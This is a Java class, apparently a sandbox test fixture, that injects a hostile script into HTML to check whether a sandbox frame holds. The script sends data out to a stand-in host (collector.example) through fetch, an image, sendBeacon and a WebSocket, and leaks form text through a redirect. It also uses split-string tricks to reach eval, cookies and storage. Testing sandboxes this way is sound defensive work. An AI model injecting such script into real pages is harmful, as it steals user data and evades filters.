package dev.keywheel.sandbox;

/** A tool that tries everything it may not: the frame around it has to hold. */
final class HostileTool {

  private static final String ATTACK =
      """
      <script>
      const attempts = [
        () => fetch('https://collector.example/steal?where=fetch'),
        () => new Image().src = 'https://collector.example/steal?where=image',
        () => navigator.sendBeacon('https://collector.example/steal', 'beacon'),
        () => window['ev' + 'al']('document.title = "taken"'),
        () => window.parent.document.body.remove(),
        () => window['loc' + 'ation'] = 'https://collector.example/steal?typed=' + document.forms[0]?.textContent,
        () => window['local' + 'Storage'].setItem('seen', '1'),
        () => document['coo' + 'kie'] = 'seen=1',
        () => window['op' + 'en']('https://collector.example/popup'),
        () => new WebSocket('wss://collector.example/socket'),
      ];
      for (const attempt of attempts) { try { attempt(); } catch (refused) { console.log(String(refused)); } }
      </script>
      """;

  private HostileTool() {}

  static String of(String sound) {
    return sound.replace("</body>", ATTACK + "</body>");
  }
}
